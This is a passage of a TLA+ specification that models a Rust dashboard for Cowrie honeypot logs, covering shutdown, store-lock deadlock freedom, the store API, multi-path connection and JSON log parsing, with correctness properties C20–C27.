              IsRec(r) => r \in Range(fwd)
    /\ tail_run # None => Range(ParsedLines(tail_run[1].data)) \subseteq Range(tail_run[1].out)
    /\ n_entries = Len(fwd)

(***************************************************************************)
(* SpecQuit: start-up and shutdown.  App::connect starts the watcher of a  *)
(* log file and then the SessionManager, whose start() spawns the timeout  *)
(* task and the listener task; later App::quit calls stop() and publishes  *)
(* Quit.  The watcher task runs as in SpecTail on a file that no longer    *)
(* changes.  Every task is scheduled fairly.                               *)
(***************************************************************************)
\* SessionManager::tasks: Vec::new() at line 41; start() takes &self and
\* drops both JoinHandles, so no handle is ever pushed.
tasks == {}

QuitFiles == {<<>>, <<"r1", "}", "NL">>, <<"x", "NL", "r2", "}", "NL">>}

QuitInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ QuitIdle
    /\ Ext2Idle
    /\ file \in QuitFiles
    /\ n_lines = Len(SplitLines(file))
    /\ truncated = FALSE
    /\ w_start = "new"
    /\ fs_events = 0
    /\ w_pc = "unstarted"
    /\ bl_pos = 0
    /\ file_position = 0
    /\ bl_len = 0
    /\ fwd = <<>>
    /\ tail_run = None
    /\ late = {}
    /\ handoff = {}

QuitFrame ==
    UNCHANGED <<storeHist, clock, n_entries, aggVars, sweepVars, pipeHist,
                scoreVars, detVars, tailVars, ext2Vars>>

\* SessionManager::start (lines 48-97), called by App::connect once every
\* start_log_watcher has returned (app.rs:175-196): both tasks are spawned.
QManagerStart ==
    /\ q_app = "init"
    /\ w_start = "returned"
    /\ q_app' = "connected"
    /\ q_listener' = "spawned"
    /\ q_sweep' = "sleep"
    /\ UNCHANGED <<store, subscribed, rx>>
    /\ QuitFrame

\* The listener task starts to run: event_tx.subscribe() (line 77).
QListenerSubscribe ==
    /\ q_listener = "spawned"
    /\ q_listener' = "recv"
    /\ subscribed' = TRUE
    /\ UNCHANGED <<store, rx, q_app, q_sweep>>
    /\ QuitFrame

\* rx.recv() yields a message (lines 79-93): process_log_entry for a
\* NewLogEntry, break for Quit.
QListenerRecv ==
    /\ q_listener = "recv"
    /\ rx # <<>>
    /\ rx' = Tail(rx)
    /\ IF Head(rx) = Quit
       THEN /\ q_listener' = "done"
            /\ UNCHANGED store
       ELSE /\ store' = process_log_entry(store, Head(rx).entry)
            /\ UNCHANGED q_listener
    /\ UNCHANGED <<subscribed, q_app, q_sweep>>
    /\ QuitFrame

\* interval.tick() completes (line 60).
QSweepWake ==
    /\ q_sweep = "sleep"
    /\ q_sweep' = "check"
    /\ UNCHANGED <<store, subscribed, rx, q_app, q_listener>>
    /\ QuitFrame

\* check_session_timeouts (lines 62-68), then back to tick(): the loop has
\* no exit.
QSweepCheck ==
    /\ q_sweep = "check"
    /\ store' = SweepWriteBack(store, TimedOutSessions(store, now))
    /\ q_sweep' = "sleep"
    /\ UNCHANGED <<subscribed, rx, q_app, q_listener>>
    /\ QuitFrame

\* App::quit, first half (app.rs:219): SessionManager::stop aborts the
\* tasks whose handle is in self.tasks (lines 104-106).
AppStop ==
    /\ q_app = "connected"
    /\ q_app' = "stopped"
    /\ q_listener' = IF "listener" \in tasks THEN "done" ELSE q_listener
    /\ q_sweep' = IF "sweep" \in tasks THEN "done" ELSE q_sweep
    /\ UNCHANGED <<store, subscribed, rx>>
    /\ QuitFrame

\* App::quit, second half (app.rs:222): event_tx.send(AppEvent::Quit).
AppQuitSend ==
    /\ q_app = "stopped"
    /\ q_app' = "quit_sent"
    /\ rx' = Broadcast(rx, subscribed, Quit)
    /\ UNCHANGED <<store, subscribed, q_listener, q_sweep>>
    /\ QuitFrame

QuitNext ==
    \/ WatcherStart
    \/ WatcherReturn
    \/ BacklogOpen
    \/ BacklogLine
    \/ TailPosition
    \/ TailClosed
    \/ QManagerStart
    \/ QListenerSubscribe
    \/ QListenerRecv
    \/ QSweepWake
    \/ QSweepCheck
    \/ AppStop
    \/ AppQuitSend

\* The tokio runtime runs every task that is ready.
QuitFairness ==
    /\ WF_vars(BacklogOpen)
    /\ WF_vars(BacklogLine)
    /\ WF_vars(TailPosition)
    /\ WF_vars(TailClosed)
    /\ WF_vars(QListenerSubscribe)
    /\ WF_vars(QListenerRecv)
    /\ WF_vars(QSweepWake)
    /\ WF_vars(QSweepCheck)

SpecQuit == QuitInit /\ [][QuitNext]_vars /\ QuitFairness

(***************************************************************************)
(* C20.  After App::quit (stop() called and Quit published) the listener   *)
(* task, the timeout task and the file watcher task all terminate          *)
(* eventually.                                                             *)
(***************************************************************************)
C20_ShutdownTerminates ==
    (q_app = "quit_sent") ~> (q_listener = "done" /\ q_sweep = "done" /\ w_pc = "done")

(***************************************************************************)
(* SpecLock: the tasks contending for the store's tokio RwLock.  Two       *)
(* watcher tasks take the write lock around add_log_entry                  *)
(* (log_watcher.rs:114-119, 201-206); the listener and the timeout task    *)
(* take the read lock, drop it, and then take the write lock               *)
(* (session_manager.rs:124-127, 142-149, 334-353, 356-367); the UI's       *)
(* render functions use try_read and return when it fails                  *)
(* (ui/dashboard.rs:56-59).  The lock is tokio's fair lock: a request that *)
(* cannot be served joins a first-in first-out queue, and no request       *)
(* overtakes the queue.  What the tasks do to the store inside their       *)
(* critical sections is the subject of Spec and is left out here.          *)
(***************************************************************************)
WatcherTasks == {"w1", "w2"}

ManagerTasks == {"agg", "sweep"}

UiTasks == {"ui1", "ui2"}

\* The tasks that await the lock.
AwaitingTasks == WatcherTasks \cup ManagerTasks

LockTasks == AwaitingTasks \cup UiTasks

\* The guard of a block is dropped at the end of the block.
drop_guard_kept(held, t) == held

drop_guard(held, t) == held \ {t}

\* A read request is served at once when no writer holds the lock and nobody
\* waits; a write request when nobody holds the lock and nobody waits.
CanRead(writer, queue) == writer = None /\ queue = <<>>

CanWrite(readers, writer, queue) == readers = {} /\ writer = None /\ queue = <<>>

\* The permits released go to the waiters in queue order.
RECURSIVE Wake(_, _, _)
Wake(readers, writer, queue) ==
    IF queue = <<>> \/ writer # None
    THEN [readers |-> readers, writer |-> writer, queue |-> queue]
    ELSE IF Head(queue).mode = "read"
    THEN Wake(readers \cup {Head(queue).task}, writer, Tail(queue))
    ELSE IF readers = {}
    THEN [readers |-> readers, writer |-> Some(Head(queue).task), queue |-> Tail(queue)]
    ELSE [readers |-> readers, writer |-> writer, queue |-> queue]

\* The positions after the lock state became w: a waiter that was served
\* holds its guard.
Granted(pc, w) ==
    [t \in DOMAIN pc |->
        IF pc[t] = "wait_r" /\ t \in w.readers THEN "hold_r"
        ELSE IF pc[t] = "wait_w" /\ w.writer = Some(t) THEN "hold_w"
        ELSE pc[t]]

\* A manager task starts with its read block ("before_read"), a watcher and
\* a manager task after its read block are before a write block.
LockInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ ApiIdle
    /\ ConnIdle
    /\ ParseIdle
    /\ SweepRunIdle
    /\ Ext3Idle
    /\ lk_pc = [t \in LockTasks |-> IF t \in WatcherTasks THEN "before_write"
                                    ELSE "before_read"]
    /\ lk_readers = {}
    /\ lk_writer = None
    /\ lk_queue = <<>>

LockFrame ==
    UNCHANGED <<store, storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars, apiVars,
                connVars, parseVars, sweepRunVars, ext3Vars>>

\* store.read().await (session_manager.rs:125, 335).
LockRead(t) ==
    /\ t \in ManagerTasks
    /\ lk_pc[t] = "before_read"
    /\ IF CanRead(lk_writer, lk_queue)
       THEN /\ lk_readers' = lk_readers \cup {t}
            /\ lk_pc' = [lk_pc EXCEPT ![t] = "hold_r"]
            /\ UNCHANGED lk_queue
       ELSE /\ lk_queue' = Append(lk_queue, [task |-> t, mode |-> "read"])
            /\ lk_pc' = [lk_pc EXCEPT ![t] = "wait_r"]
            /\ UNCHANGED lk_readers
    /\ UNCHANGED lk_writer
    /\ LockFrame

\* app.store.try_read() that returns a guard; on Err the render function
\* returns at once and nothing changes.
LockTryRead(t) ==
    /\ t \in UiTasks
    /\ lk_pc[t] = "before_read"
    /\ CanRead(lk_writer, lk_queue)
    /\ lk_readers' = lk_readers \cup {t}
    /\ lk_pc' = [lk_pc EXCEPT ![t] = "hold_r"]
    /\ UNCHANGED <<lk_writer, lk_queue>>
    /\ LockFrame

\* The end of a read block: the guard is dropped (session_manager.rs:127,
\* 353; the end of a render function).
UnlockRead(t) ==
    /\ lk_pc[t] = "hold_r"
    /\ LET w == Wake(drop_guard(lk_readers, t), lk_writer, lk_queue)
           pc == [lk_pc EXCEPT ![t] = IF t \in UiTasks THEN "before_read"
                                      ELSE "before_write"]
       IN  /\ lk_readers' = w.readers
           /\ lk_writer' = w.writer
           /\ lk_queue' = w.queue
           /\ lk_pc' = Granted(pc, w)
    /\ LockFrame

\* store.write().await (log_watcher.rs:115, 202; session_manager.rs:143, 357).
LockWrite(t) ==
    /\ t \in AwaitingTasks
    /\ lk_pc[t] = "before_write"
    /\ IF CanWrite(lk_readers, lk_writer, lk_queue)
       THEN /\ lk_writer' = Some(t)
            /\ lk_pc' = [lk_pc EXCEPT ![t] = "hold_w"]
            /\ UNCHANGED lk_queue
       ELSE /\ lk_queue' = Append(lk_queue, [task |-> t, mode |-> "write"])
            /\ lk_pc' = [lk_pc EXCEPT ![t] = "wait_w"]
            /\ UNCHANGED lk_writer
    /\ UNCHANGED lk_readers
    /\ LockFrame

\* The end of a write block (log_watcher.rs:119, 206; session_manager.rs:149,
\* 367): a watcher goes on to send and to its next line, a manager task to
\* its next event or tick.
UnlockWrite(t) ==
    /\ lk_pc[t] = "hold_w"
    /\ LET w == Wake(lk_readers, None, lk_queue)
           pc == [lk_pc EXCEPT ![t] = IF t \in WatcherTasks THEN "before_write"
                                      ELSE "before_read"]
       IN  /\ lk_readers' = w.readers
           /\ lk_writer' = w.writer
           /\ lk_queue' = w.queue
           /\ lk_pc' = Granted(pc, w)
    /\ LockFrame

LockNext ==
    \E t \in LockTasks :
        \/ LockRead(t)
        \/ LockTryRead(t)
        \/ UnlockRead(t)
        \/ LockWrite(t)
        \/ UnlockWrite(t)

\* No block that holds a guard awaits anything: a task that holds the lock
\* reaches the end of its block.
LockFairness ==
    \A t \in LockTasks : WF_vars(UnlockRead(t)) /\ WF_vars(UnlockWrite(t))

SpecLock == LockInit /\ [][LockNext]_vars /\ LockFairness

Waiting(t) == lk_pc[t] \in {"wait_r", "wait_w"}

Holding(t) == t \in lk_readers \/ lk_writer = Some(t)

(***************************************************************************)
(* C21.  The store lock is free of deadlock: whenever a task waits for the *)
(* lock, the lock is held by a task that is not itself waiting (so never   *)
(* is every task blocked, and no task requests the lock while holding it); *)
(* readers and a writer never hold it together; and with every critical    *)
(* section coming to its end, every request is eventually granted.         *)
(***************************************************************************)
C21_StoreLockDeadlockFree ==
    /\ []((\E t \in LockTasks : Waiting(t)) =>
              \E h \in LockTasks : Holding(h) /\ ~Waiting(h))
    /\ [](\A t \in LockTasks : ~(Waiting(t) /\ Holding(t)))
    /\ [](lk_writer # None => lk_readers = {})
    /\ \A t \in AwaitingTasks : Waiting(t) ~> Holding(t)

\* All four awaiting tasks are queued behind a UI reader, a writer first.
C21_Witness ==
    /\ lk_readers # {}
    /\ lk_readers \subseteq UiTasks
    /\ Len(lk_queue) = 4
    /\ lk_queue[1].mode = "write"
    /\ \E i \in 2..4 : lk_queue[i].mode = "read"

\* The entries named by out are the newest resident entries of the store's
\* log, in order, as far as max_logs lets them stay.
StoredNewest(st, out) ==
    LET k == Min(Len(out), st.max_logs)
        ids == st.log_entry_ids
    IN  /\ Len(ids) >= k
        /\ \A i \in 1..k :
              st.log_entries[ids[Len(ids) - k + i]].session = Some(out[Len(out) - k + i])

(***************************************************************************)
(* C22.  With no subscriber on the broadcast channel a run of the tail     *)
(* handler still ends with its offset at the new file size, and every      *)
(* entry it parsed and sent is in the store, where a consumer can read it. *)
(***************************************************************************)
C22_TailerNeverBlocked ==
    (tail_run # None /\ ~subscribed /\ rx = <<>>) =>
        /\ tail_run[1].end_position = tail_run[1].new_size
        /\ StoredNewest(store, tail_run[1].out)
        /\ Len(tail_run[1].out) = Len(ParsedLines(tail_run[1].data))

\* The closed taxonomy of event kinds (models.rs:40-63).
EventKinds ==
    {"Connect", "Disconnect", "LoginAttempt", "LoginSuccess", "LoginFailed", "Command",
     "FileUpload", "FileDownload", "KeyAuth", "TCPForward", "Unknown"}

\* For every kind an entry for connection id that carries every payload the
\* update rules look at.
FullEntries(id, ts) ==
    {[LogEntry(0, ts, k, Some(id), Some("root"), Some("exit"),
               [f \in {"success", "ttylog", "shasum", "version", "fingerprint"} |->
                    IF f = "success" THEN JBool(TRUE) ELSE JStr("x")])
      EXCEPT !.file = Some(FileTransfer("m.sh", TRUE, TRUE)),
             !.src_ip = Some("1.2.3.4"), !.dst_port = Some(2222)] : k \in EventKinds}

\* An Option field goes from unset to set.
SetTo(before, after) == before = None /\ after # None

\* The step is the write block of process_log_entry for a Disconnect event
\* of connection id.
DisconnectWritten(id) ==
    /\ agg_pc = "write"
    /\ agg_pc' = "send"
    /\ agg_entry[1].event_type = "Disconnect"
    /\ agg_entry[1].session = Some(id)

\* The step is the write block of check_session_timeouts, whose read block
\* found id open and older than the timeout.
SweepWritten(id) ==
    /\ sweep_pc = "write"
    /\ sweep_pc' = "tick"
    /\ \E i \in 1..Len(sessions_to_update) :
          LET s == sessions_to_update[i]
          IN  /\ s.id = id
              /\ s.end_time[1] - s.start_time > session_timeout

MaxApiCalls == 4

\* get_log_entries (store.rs:93-98): the resident entries in index order.
get_log_entries(st) ==
    LET resident(id) == id \in DOMAIN st.log_entries
        ids == SelectSeq(st.log_entry_ids, resident)
    IN  [i \in 1..Len(ids) |-> st.log_entries[ids[i]]]

\* get_log_entries_by_session (store.rs:101-106).
get_log_entries_by_session(st, session_id) ==
    LET match(entry) == entry.session = Some(session_id)
    IN  SelectSeq(get_log_entries(st), match)

\* get_sessions_by_source_ip (store.rs:189-194).
get_sessions_by_source_ip(st, src_ip) ==
    LET match(session) == session.src_ip = src_ip
    IN  SelectSeq(get_sessions(st), match)

\* The entries offered to add_log_entry as its n-th call.
ApiEntries(n) ==
    {LogEntry(n, 0, "Connect", Some("s1"), None, None, EmptyMap),
     [LogEntry(n, 0, "LoginFailed", Some("s1"), Some("root"), None, EmptyMap)
        EXCEPT !.src_ip = Some("1.2.3.4"), !.password = Some("123456")],
     [LogEntry(n, 0, "LoginFailed", Some("s2"), Some("admin"), None, EmptyMap)
        EXCEPT !.src_ip = Some("5.6.7.8")]}

NoneSeen == [ips |-> {}, usernames |-> {}, passwords |-> {}]

ApiInit ==
    /\ \E ml \in 0..MaxCap, ms \in 0..MaxCap : store = StoreNew(ml, ms)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ LockIdle
    /\ ConnIdle
    /\ ParseIdle
    /\ SweepRunIdle
    /\ Ext3Idle
    /\ api_last = None
    /\ api_seen = NoneSeen

ApiFrame ==
    UNCHANGED <<ins_sessions, upd_sessions, pipeVars, scoreVars, detVars, tailVars,
                quitVars, lockVars, connVars, parseVars, sweepRunVars, ext3Vars>>

ApiAddLogEntry ==
    /\ calls < MaxApiCalls
    /\ \E entry \in ApiEntries(calls) :
          /\ store' = add_log_entry(store, entry)
          /\ api_seen' = [ips |-> api_seen.ips \cup Range(entry.src_ip),
                          usernames |-> api_seen.usernames \cup Range(entry.username),
                          passwords |-> api_seen.passwords \cup Range(entry.password)]
    /\ api_last' = Some([op |-> "add_log_entry", id |-> calls, result |-> "Ok"])
    /\ ins_logs' = Append(ins_logs, calls)
    /\ calls' = calls + 1
    /\ ApiFrame

ApiAddSession ==
    /\ calls < MaxApiCalls
    /\ \E id \in StoreIds :
          /\ store' = add_session(store, OpenSession(id))
          /\ api_last' = Some([op |-> "add_session", id |-> id, result |-> "Ok"])
    /\ calls' = calls + 1
    /\ UNCHANGED <<ins_logs, api_seen>>
    /\ ApiFrame

\* update_session returns Err("Session not found") for an id that is not
\* resident (store.rs:157-159), Ok(()) otherwise.
ApiUpdateSession ==
    /\ calls < MaxApiCalls
    /\ \E id \in StoreIds :
          /\ store' = update_session(store, ClosedSession(id))
          /\ api_last' = Some([op |-> "update_session", id |-> id,
                               result |-> IF update_session_ok(store, ClosedSession(id))
                                          THEN "Ok" ELSE "NotFound"])
    /\ calls' = calls + 1
    /\ UNCHANGED <<ins_logs, api_seen>>
    /\ ApiFrame

ApiClear ==
    /\ calls < MaxApiCalls
    /\ store' = clear(store)
    /\ api_last' = Some([op |-> "clear", id |-> "", result |-> "Ok"])
    /\ api_seen' = NoneSeen
    /\ ins_logs' = <<>>
    /\ calls' = calls + 1
    /\ ApiFrame

ApiNext ==
    \/ ApiAddLogEntry
    \/ ApiAddSession
    \/ ApiUpdateSession
    \/ ApiClear

SpecApi == ApiInit /\ [][ApiNext]_vars

\* No session and no log entry is resident.
StoreEmpty(st) == DOMAIN st.sessions = {} /\ DOMAIN st.log_entries = {}

(***************************************************************************)
(* C24.  update_session of an id that is not resident returns the error    *)
(* and leaves the sessions, the session index, the log entries and the     *)
(* uniqueness sets, the whole store, as they were; and on a store with no  *)
(* session and no log entry every read returns an empty result or None.    *)
(***************************************************************************)
C24_UpdateMissingIsError ==
    /\ [][\A id \in StoreIds :
            (/\ api_last' # None
             /\ api_last'[1].op = "update_session"
             /\ api_last'[1].id = id
             /\ calls' = calls + 1
             /\ id \notin DOMAIN store.sessions)
            => (api_last'[1].result = "NotFound" /\ store' = store)]_vars
    /\ [](StoreEmpty(store) =>
             /\ get_sessions(store) = <<>>
             /\ get_active_sessions(store) = <<>>
             /\ get_log_entries(store) = <<>>
             /\ \A id \in StoreIds :
                   /\ get_session(store, id) = None
                   /\ get_log_entries_by_session(store, id) = <<>>
             /\ \A n \in 0..MaxApiCalls : get_log_entry(store, n) = None
             /\ get_sessions_by_source_ip(store, "0.0.0.0") = <<>>)

\* update_session has just failed on a store that holds a session, a log
\* entry and a username.
C24_Witness ==
    /\ api_last # None
    /\ api_last[1].op = "update_session"
    /\ api_last[1].result = "NotFound"
    /\ DOMAIN store.sessions # {}
    /\ DOMAIN store.log_entries # {}
    /\ store.unique_usernames # {}

(***************************************************************************)
(* C27.  The three uniqueness sets only grow: every call other than clear  *)
(* leaves each of them a superset of what it was, pruning included; each   *)
(* contains the corresponding field of every entry added since the last    *)
(* clear; and clear empties them.                                          *)
(***************************************************************************)
C27_UniqueSetsOnlyGrow ==
    /\ [](/\ api_seen.ips \subseteq store.unique_ips
          /\ api_seen.usernames \subseteq store.unique_usernames
          /\ api_seen.passwords \subseteq store.unique_passwords)
    /\ [][IF api_last'[1].op = "clear"
          THEN /\ store'.unique_ips = {}
               /\ store'.unique_usernames = {}
               /\ store'.unique_passwords = {}
          ELSE /\ store.unique_ips \subseteq store'.unique_ips
               /\ store.unique_usernames \subseteq store'.unique_usernames
               /\ store.unique_passwords \subseteq store'.unique_passwords]_vars

\* The entry that brought a password was pruned, sessions were added and
\* updated, and the password is still in its set.
C27_Witness ==
    /\ store.unique_passwords # {}
    /\ \A k \in DOMAIN store.log_entries : store.log_entries[k].password = None
    /\ DOMAIN store.log_entries # {}
    /\ \E id \in DOMAIN store.sessions : store.sessions[id].end_time # None

\* The positions in updates of the sessions whose id is not resident in st.
MissingIn(st, updates) ==
    {i \in 1..Len(updates) : ~update_session_ok(st, updates[i])}

(***************************************************************************)
(* C25.  A write-back of a session whose id is no longer resident inserts  *)
(* the session: after the write block of process_log_entry the session     *)
(* written is resident, and after the write block of                       *)
(* check_session_timeouts the last closed copy whose id was not resident   *)
(* is resident and closed (the store holds at least one session).          *)
(***************************************************************************)
C25_UpdateMissingRecovered ==
    [][/\ (agg_pc = "write" /\ agg_pc' = "send") =>
              agg_session'[1].id \in DOMAIN store'.sessions
       /\ (sweep_pc = "write" /\ sweep_pc' = "tick") =>
              LET missing == MissingIn(store, sessions_to_update)
              IN  missing # {} =>
                     LET last == CHOOSE i \in missing : \A j \in missing : j <= i
                         id == sessions_to_update[last].id
                     IN  /\ id \in DOMAIN store'.sessions
                         /\ store'.sessions[id].end_time # None]_vars

(***************************************************************************)
(* SpecConn: App::connect over several log paths (app.rs:170-203) and its  *)
(* caller start_ui (ui/mod.rs:81).  Each path either exists and can be     *)
(* watched, or is missing, or exists while the notify watcher cannot be    *)
(* set up for it.  A watcher task that was spawned replays the backlog,    *)
(* tails, and ends when its event channel closes.                          *)
(***************************************************************************)
\* Number of log paths the App is configured with.
MaxPaths == 3

PathStates == {"exists", "missing", "unwatchable"}

\* start_log_watcher (log_watcher.rs:19-84): Err when the path does not
\* exist (lines 28-30) or when RecommendedWatcher::new or watch fails
\* (lines 51, 54); otherwise the task is spawned and Ok(task) returned.
start_log_watcher_ok(path_state) == path_state = "exists"

\* app.rs:187-191: the Err arm of the loop sets the status and returns.
connect_after_err(i) == [pc |-> "returned_err", i |-> i]

ConnInit ==
    /\ store = StoreNew(MaxCap, MaxCap)
    /\ StoreHistIdle
    /\ PipeIdle
    /\ ScoreIdle
    /\ DetIdle
    /\ TailIdle
    /\ QuitIdle
    /\ LockIdle
    /\ ApiIdle
    /\ ParseIdle
    /\ SweepRunIdle
    /\ Ext3Idle
    /\ \E n \in 1..MaxPaths : log_paths \in [1..n -> PathStates]
    /\ conn_pc = "idle"
    /\ conn_i = 0
    /\ connection_status = "Disconnected"
    /\ conn_tasks = [i \in 1..Len(log_paths) |-> "none"]
    /\ conn_manager = FALSE

ConnFrame ==
    UNCHANGED <<store, storeHist, pipeVars, scoreVars, detVars, tailVars, quitVars,
                lockVars, apiVars, parseVars, sweepRunVars, ext3Vars, log_paths>>

\* app.rs:171-172.
ConnectBegin ==
    /\ conn_pc = "idle"
    /\ conn_pc' = "loop"
    /\ conn_i' = 1
    /\ connection_status' = "Connecting"
    /\ UNCHANGED <<conn_tasks, conn_manager>>
    /\ ConnFrame

\* One round of the loop (app.rs:175-193).
ConnectPath ==
    /\ conn_pc = "loop"
    /\ conn_i <= Len(log_paths)
    /\ IF start_log_watcher_ok(log_paths[conn_i])
       THEN /\ conn_tasks' = [conn_tasks EXCEPT ![conn_i] = "backlog"]
            /\ conn_i' = conn_i + 1
            /\ UNCHANGED <<conn_pc, connection_status>>
       ELSE /\ connection_status' = "Failed"
            /\ conn_pc' = connect_after_err(conn_i).pc
            /\ conn_i' = connect_after_err(conn_i).i
            /\ UNCHANGED conn_tasks
    /\ UNCHANGED conn_manager
    /\ ConnFrame

\* After the loop (app.rs:195-202): the session manager is started.
ConnectManager ==
    /\ conn_pc = "loop"
    /\ conn_i > Len(log_paths)
    /\ conn_manager' = TRUE
    /\ connection_status' = "Connected"
    /\ conn_pc' = "returned_ok"
    /\ UNCHANGED <<conn_i, conn_tasks>>
    /\ ConnFrame

\* `app.connect().await?` in start_ui (ui/mod.rs:81) returns the error to
\* main, which returns it: the runtime is dropped and its tasks with it.
ConnectErrExit ==
    /\ conn_pc = "returned_err"
    /\ conn_pc' = "exited"
    /\ conn_tasks' = [i \in 1..Len(conn_tasks) |->
                        IF conn_tasks[i] \in {"backlog", "tail"} THEN "cancelled"
                        ELSE conn_tasks[i]]
    /\ UNCHANGED <<conn_i, connection_status, conn_manager>>
    /\ ConnFrame

\* A spawned watcher task moves on: the backlog replay ends, and later the
\* event channel closes and the task ends (log_watcher.rs:63-80, 146).
ConnTaskStep ==
    /\ \E i \in 1..Len(conn_tasks) :
          /\ conn_tasks[i] \in {"backlog", "tail"}
          /\ conn_tasks' = [conn_tasks EXCEPT ![i] = IF @ = "backlog" THEN "tail" ELSE "done"]
    /\ UNCHANGED <<conn_pc, conn_i, connection_status, conn_manager>>
    /\ ConnFrame

ConnNext ==
    \/ ConnectBegin
    \/ ConnectPath
    \/ ConnectManager
    \/ ConnectErrExit
    \/ ConnTaskStep

SpecConn == ConnInit /\ [][ConnNext]_vars

(***************************************************************************)
(* C26.  When connect is given several paths of which one cannot be        *)
(* watched, then once connect has returned the watcher task of every path  *)
(* that can be watched was spawned and is not cancelled, and the session   *)
(* manager was started.                                                    *)
(***************************************************************************)
C26_WatcherFailureIsolated ==
    (/\ conn_pc \in {"returned_ok", "returned_err", "exited"}
     /\ Len(log_paths) >= 2
     /\ Cardinality({i \in 1..Len(log_paths) : ~start_log_watcher_ok(log_paths[i])}) = 1)
    => /\ \A i \in 1..Len(log_paths) :
              start_log_watcher_ok(log_paths[i]) => conn_tasks[i] \notin {"none", "cancelled"}
       /\ conn_manager

(***************************************************************************)
(* SpecParse: LogAnalyzer::parse_log_entry (log_analyzer.rs:42-179) on the *)
(* lines a watcher reads, and what the watcher does with the result        *)
(* (log_watcher.rs:197-215).  A line is what serde_json::from_str makes of *)
(* it: not JSON, a JSON value that is no object, or an object, kept as a   *)
(* function from its keys to values tagged with their JSON type.           *)
(***************************************************************************)
\* Number of lines one run reads.
MaxParseLines == 2

\* A JSON number; its value has a member name of its own so that it is never
\* compared with the text of a string value.
JNum(n) == [t |-> "number", n |-> n]

JNull == [t |-> "null"]

NotJson == [t |-> "notjson"]

JArray == [t |-> "array"]

JObject(o) == [t |-> "object", v |-> o]

\* Marks a key the object does not have when objects are enumerated.
Absent == [t |-> "absent"]

ParseKeys == {"eventid", "timestamp", "session", "src_port", "id", "arch", "filename"}

\* The values a key of an input object is drawn from.
KeyChoices ==
    [eventid   : {JStr("cowrie.session.connect"), JStr("cowrie.session.file_download"),
                  JStr("cowrie.new.thing"), JNum(5), Absent},
     timestamp : {JStr("2024-01-01T00:00:10Z"), JStr("2024-01-01T02:00:10+02:00"),
                  JStr("yesterday"), JNum(1704067210), Absent},
     session   : {JStr("s1"), JNum(5), Absent},
     src_port  : {JNum(22), JNum(70000), JStr("2222"), JStr("abc"), Absent},
     id        : {JStr("evt-1"), Absent},
     arch      : {JStr("linux-x64"), Absent},
     filename  : {JStr("a.sh"), Absent}]

\* The mandatory keys are both well-formed strings of the first choice.
PlainMandatory(c) ==
    /\ c.eventid = JStr("cowrie.session.connect")
    /\ c.timestamp = JStr("2024-01-01T00:00:10Z")

\* The optional keys are all absent.
PlainOptional(c) ==
    \A k \in ParseKeys \ {"eventid", "timestamp"} : c[k] = Absent

\* The input objects: every combination of the mandatory keys with no
\* optional key, every combination of the optional keys under each event
\* name with a good timestamp.
ObjectOf(c) == [k \in {x \in ParseKeys : c[x] # Absent} |-> c[k]]

InputLines ==
    {NotJson, JArray} \cup
    {JObject(ObjectOf(c)) :
        c \in {d \in KeyChoices :
                 \/ PlainOptional(d)
                 \/ /\ d.timestamp = JStr("2024-01-01T00:00:10Z")
                    /\ d.eventid.t = "string"}}

\* value[key] of serde_json: Null for a missing key and for a value that is
\* no object.
Index(value, key) ==
    IF value.t = "object" /\ key \in DOMAIN value.v THEN value.v[key] ELSE JNull

\* Value::as_str.
as_str(v) == IF v.t = "string" THEN Some(v.v) ELSE None

\* Value::as_u64: a JSON number that is a non-negative integer.
json_as_u64(v) == IF v.t = "number" /\ v.n >= 0 THEN Some(v.n) ELSE None

\* str::parse::<u64> on the strings of the inputs.
parse_u64(str) == IF str = "2222" THEN Some(2222) ELSE None

\* `n as u16`.
as_u16(n) == n % 65536

\* DateTime::parse_from_rfc3339(..).with_timezone(&Utc) on the strings of
\* the inputs, in seconds after 2024-01-01T00:00:00Z: an offset is folded
\* into the instant.
parse_from_rfc3339(str) ==
    IF str = "2024-01-01T00:00:10Z" THEN Some(10)
    ELSE IF str = "2024-01-01T02:00:10+02:00" THEN Some(10)
    ELSE None

Ok(x) == [ok |-> TRUE, val |-> x]

Err(msg) == [ok |-> FALSE, err |-> msg]

\* LogAnalyzer::new: the event_type_mapping table.
event_type_mapping ==
    [x \in {"cowrie.session.connect", "cowrie.client.kex", "cowrie.client.version",
            "cowrie.session.closed", "cowrie.login.success", "cowrie.login.failed",
            "cowrie.command.input", "cowrie.command.success",
            "cowrie.session.file_download", "cowrie.session.file_upload",
            "cowrie.client.fingerprint", "cowrie.direct-tcpip.request",
            "cowrie.direct-tcpip.data"} |->
        CASE x \in {"cowrie.session.connect", "cowrie.client.kex", "cowrie.client.version"}
                -> "Connect"
          [] x = "cowrie.session.closed" -> "Disconnect"
          [] x = "cowrie.login.success" -> "LoginSuccess"
          [] x = "cowrie.login.failed" -> "LoginFailed"
          [] x \in {"cowrie.command.input", "cowrie.command.success"} -> "Command"
          [] x = "cowrie.session.file_download" -> "FileDownload"
          [] x = "cowrie.session.file_upload" -> "FileUpload"
          [] x = "cowrie.client.fingerprint" -> "KeyAuth"
          [] OTHER -> "TCPForward"]

extract_event_type(value) ==
    LET event_name == as_str(Index(value, "eventid"))
    IN  IF event_name = None THEN Err("Missing or invalid eventid field")
        ELSE IF event_name[1] \in DOMAIN event_type_mapping
             THEN Ok(event_type_mapping[event_name[1]])
             ELSE Ok("Unknown")

\* A plausible slip: a timestamp that does not parse falls back to a
\* default instant instead of failing.
extract_timestamp_lenient(value) ==
    LET timestamp_str == as_str(Index(value, "timestamp"))
    IN  IF timestamp_str = None THEN Err("Missing or invalid timestamp field")
        ELSE IF parse_from_rfc3339(timestamp_str[1]) = None THEN Ok(0)
             ELSE Ok(parse_from_rfc3339(timestamp_str[1])[1])

extract_timestamp(value) ==
    LET timestamp_str == as_str(Index(value, "timestamp"))
    IN  IF timestamp_str = None THEN Err("Missing or invalid timestamp field")
        ELSE IF parse_from_rfc3339(timestamp_str[1]) = None
             THEN Err("Failed to parse timestamp")
             ELSE Ok(parse_from_rfc3339(timestamp_str[1])[1])

extract_string_field(value, field_name) == as_str(Index(value, field_name))

extract_number_field(value, field_name) ==
